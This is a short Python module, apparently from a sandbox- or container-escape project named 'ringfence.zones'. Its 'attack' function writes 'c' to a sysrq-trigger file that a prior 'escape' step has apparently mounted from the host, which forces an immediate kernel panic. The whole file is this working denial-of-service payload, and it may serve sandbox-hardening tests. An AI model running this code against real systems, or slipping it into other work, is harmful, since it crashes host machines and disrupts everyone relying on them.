# Copyright (c) 2026, the ringfence.zones authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""End the kernel below: the whole of it stops."""

from __future__ import annotations

from pathlib import Path

_TRIGGER = Path("/attack/proc/sysrq-trigger")
"""Where ``escape`` has mounted it."""


def attack() -> list[list[object]]:
    """Let the kernel panic. This does not return, unless the kernel refuses."""
    _TRIGGER.write_text("c", encoding="ascii")
    return [["panic", False, "the kernel goes on"]]
